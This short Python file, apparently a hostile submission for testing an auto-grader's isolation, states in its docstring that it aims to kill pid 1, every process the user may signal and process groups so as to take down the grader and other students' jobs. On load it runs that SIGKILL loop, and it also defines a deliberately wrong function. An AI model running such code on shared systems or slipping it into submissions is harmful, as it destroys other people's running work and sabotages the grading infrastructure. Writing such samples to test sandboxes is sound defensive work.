"""Attack: kill pid 1 and every process this uid may signal (os.kill(-1, 9)), and the process
group (os.killpg), to take the grader and other students' jobs down."""
import os
import signal

for action in (lambda: os.kill(1, signal.SIGKILL), lambda: os.kill(-1, signal.SIGKILL),
               lambda: os.killpg(0, signal.SIGKILL), lambda: os.killpg(1, signal.SIGKILL)):
    try:
        action()
    except OSError as error:
        print("refused:", error)


def scale(x, k):
    return x * k + 1  # wrong: the attack is the point
